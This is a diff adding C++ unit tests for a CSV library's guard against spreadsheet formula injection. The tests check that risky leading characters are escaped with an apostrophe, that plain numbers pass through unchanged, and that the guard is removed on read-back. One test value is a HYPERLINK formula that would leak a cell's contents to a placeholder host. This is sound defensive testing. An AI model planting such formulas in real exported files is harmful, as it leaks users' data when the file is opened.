@@ -79,6 +79,92 @@ TEST(CsvText, WrittenRecordsReadBackExactly)
     }
 }
 
+// A field a spreadsheet program would open as a formula gets an apostrophe before it; a plain
+// number, negative or not, stays a number.
+TEST(CsvText, FieldsThatWouldOpenAsFormulasAreGuarded)
+{
+    const struct
+    {
+        const char* name;
+        QString field;
+        QString written;
+    } cases[] = {
+        {"a formula", "=HYPERLINK(\"http://x?leak=\"&B3,\"click\")",
+         "'=HYPERLINK(\"http://x?leak=\"&B3,\"click\")"},
+        {"plus", "+A1+A2", "'+A1+A2"},
+        {"minus", "-2+3", "'-2+3"},
+        {"at", "@SUM(A1:A3)", "'@SUM(A1:A3)"},
+        {"tab first", "\t=1+1", "'\t=1+1"},
+        {"carriage return first", "\r=1+1", "'\r=1+1"},
+        {"a lone minus", "-", "'-"},
+        {"a lone plus", "+", "'+"},
+        {"a sign and text", "-abc", "'-abc"},
+        {"a money amount with its symbol", "-$12.50", "'-$12.50"},
+        {"a number with a space after it", "-3 ", "'-3 "},
+        {"two decimal points", "-1.2.3", "'-1.2.3"},
+        {"an exponent without digits", "+1e", "'+1e"},
+        {"a negative amount", "-12.50", "-12.50"},
+        {"a positive sign", "+3", "+3"},
+        {"a negative fraction", "-.5", "-.5"},
+        {"a negative exponent", "-1.5e-3", "-1.5e-3"},
+        {"a plain amount", "350", "350"},
+        {"text", "Toaster", "Toaster"},
+        {"a formula not at the start", "a=1+1", "a=1+1"},
+        {"a space before the formula", " =1+1", " =1+1"},
+        {"an apostrophe already", "'=1+1", "'=1+1"},
+        {"empty", "", ""},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.name);
+        EXPECT_EQ(withFormulaGuard(c.field), c.written);
+        if (c.written != c.field) {
+            EXPECT_EQ(withoutFormulaGuard(c.written), c.field);
+        }
+    }
+    // Only the apostrophe the guard adds comes off: the field's own stays.
+    EXPECT_EQ(withoutFormulaGuard(QStringLiteral("'-12.50")), QStringLiteral("'-12.50"));
+    EXPECT_EQ(withoutFormulaGuard(QStringLiteral("'Tis")), QStringLiteral("'Tis"));
+    EXPECT_EQ(withoutFormulaGuard(QStringLiteral("''=1")), QStringLiteral("''=1"));
+    EXPECT_EQ(withoutFormulaGuard(QStringLiteral("'")), QStringLiteral("'"));
+}
+
+TEST(CsvText, GuardedFieldsAreWrittenWithTheirGuardAndReadBackWithout)
+{
+    const QStringList fields = {"=1+1", "-12.50", "@x", "\r=2", "'=3", "-x,y", "plain"};
+    const QString text = csvRecord(fields);
+    EXPECT_EQ(text, QStringLiteral("'=1+1,-12.50,'@x,\"'\r=2\",'=3,\"'-x,y\",plain\r\n"));
+    // What the field "'=3" held reads back as "=3", which is written as the same bytes again.
+    const std::vector<QStringList> read = readAll(text);
+    ASSERT_EQ(read.size(), 1u);
+    EXPECT_EQ(read[0], (QStringList{"=1+1", "-12.50", "@x", "\r=2", "=3", "-x,y", "plain"}));
+    EXPECT_EQ(csvRecord(read[0]), text);
+}
+
+// The guard does not count against the reader's limit on a field's length; a field's own
+// apostrophe does.
+TEST(CsvText, TheGuardDoesNotCountAgainstTheLengthLimit)
+{
+    const QString formula = QLatin1Char('=') + QString(9, QLatin1Char('x'));
+    const QString quoted = QLatin1Char('\'') + QString(9, QLatin1Char('y'));
+    const QString text = csvRecord({formula, quoted});
+    {
+        CsvReader reader(QLatin1Char(','), 10);
+        std::vector<QStringList> records;
+        reader.feed(text, records);
+        reader.finish(records);
+        EXPECT_EQ(records, (std::vector<QStringList>{{formula, quoted}}));
+        EXPECT_TRUE(reader.cutRecords().empty());
+    }
+    {
+        CsvReader reader(QLatin1Char(','), 9);
+        std::vector<QStringList> records;
+        reader.feed(text, records);
+        reader.finish(records);
+        EXPECT_EQ(records, (std::vector<QStringList>{{formula.left(9), quoted.left(9)}}));
+        EXPECT_EQ(reader.cutRecords(), std::vector<std::size_t>{0});
+    }
+}
+
 TEST(CsvText, TheDelimiterIsTheCommonestOutsideQuotes)
 {
     EXPECT_EQ(detectDelimiter(u"Location;Description;Price\n1,2;3"), QLatin1Char(';'));
